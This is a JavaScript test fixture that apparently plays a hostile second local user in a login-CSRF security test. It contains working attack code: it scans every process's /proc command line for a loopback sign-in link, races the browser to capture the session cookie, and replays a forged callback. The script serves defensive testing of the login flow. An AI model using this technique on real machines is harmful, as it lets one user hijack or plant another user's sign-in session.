// The other local user of the login-CSRF attack (test/security/loginCsrf.test.ts), run as another uid. Plain
// JavaScript for the system's Node, which that user can run; it reads nothing of ours but what every user can.
//
//   node otherUserAttacker.mjs spy               watches every process's command line (/proc/*/cmdline) for
//                                                a loopback sign-in link for up to 10 s, races the browser to
//                                                it, and prints what it got back: {url, status, location, cookie}
//   node otherUserAttacker.mjs deliver URL COOKIE  sends the browser's side of a callback with that cookie
import { readdirSync, readFileSync } from 'node:fs';

const [mode, url, cookie] = process.argv.slice(2);
const LINK = /http:\/\/127\.0\.0\.1:\d+\/start\/[A-Za-z0-9_-]+/;

if (mode === 'spy') {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const link = findLink();
    if (link) {
      const response = await fetch(link, { redirect: 'manual' });
      print({
        url: link,
        status: response.status,
        location: response.headers.get('location'),
        cookie: response.headers.get('set-cookie')?.split(';')[0] ?? null,
      });
      break;
    }
    if (Date.now() > deadline) {
      print({ url: null });
      break;
    }
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
} else if (mode === 'deliver') {
  const response = await fetch(url, { headers: cookie ? { cookie } : {}, redirect: 'manual' });
  print({ status: response.status });
} else {
  throw new Error(`unknown mode ${mode}`);
}

function findLink() {
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
    let commandLine;
    try {
      commandLine = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
    } catch {
      continue; // gone, or not ours to read
    }
    const found = LINK.exec(commandLine);
    if (found) return found[0];
  }
  return undefined;
}

function print(value) {
  process.stdout.write(`${JSON.stringify(value)}\n`);
}
